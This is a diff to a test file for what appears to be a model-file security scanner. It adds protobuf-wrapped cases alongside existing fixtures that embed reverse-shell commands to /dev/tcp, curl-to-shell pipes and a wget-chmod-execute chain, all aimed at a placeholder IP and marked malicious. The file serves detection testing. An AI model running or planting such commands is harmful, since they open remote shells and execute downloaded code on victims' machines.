@@ -9,6 +9,7 @@ import lz4.frame
 
 from modelsweep.core.report import Verdict
 from tests.scanners.case import Case
+from tests.scanners.protobuf import data
 
 NOISE = random.Random(2).randbytes(2500)
 SHELL = b"#!/bin/sh\necho modelsweep-test\n"
@@ -45,6 +46,12 @@ CASES = {
     "attack_reverse_shell": hidden(b"\0bash -i >& /dev/tcp/192.0.2.1/9 0>&1\0", Verdict.MALICIOUS),
     "attack_reverse_shell_in_script": hidden(b"#!/bin/sh\nsh -i >& /dev/tcp/192.0.2.1/9 0>&1\n", Verdict.MALICIOUS),
     "attack_pipe": hidden(b"\0curl -s http://192.0.2.1/x.sh | sh\0", Verdict.MALICIOUS),
+    "attack_pipe_before_a_tag": hidden(
+        data(10, "curl -s http://192.0.2.1/x.sh | bash") + data(12, data(1, "y")), Verdict.MALICIOUS
+    ),
+    "benign_sum_before_a_tag": hidden(
+        data(10, "curl -s https://example.com/x | shasum") + data(12, data(1, "y")), Verdict.NOT_SCANNED
+    ),
     "attack_fetched_and_made_executable": hidden(
         b"\0wget -q http://192.0.2.1/m -O /tmp/m && chmod +x /tmp/m && /tmp/m\0", Verdict.MALICIOUS
     ),
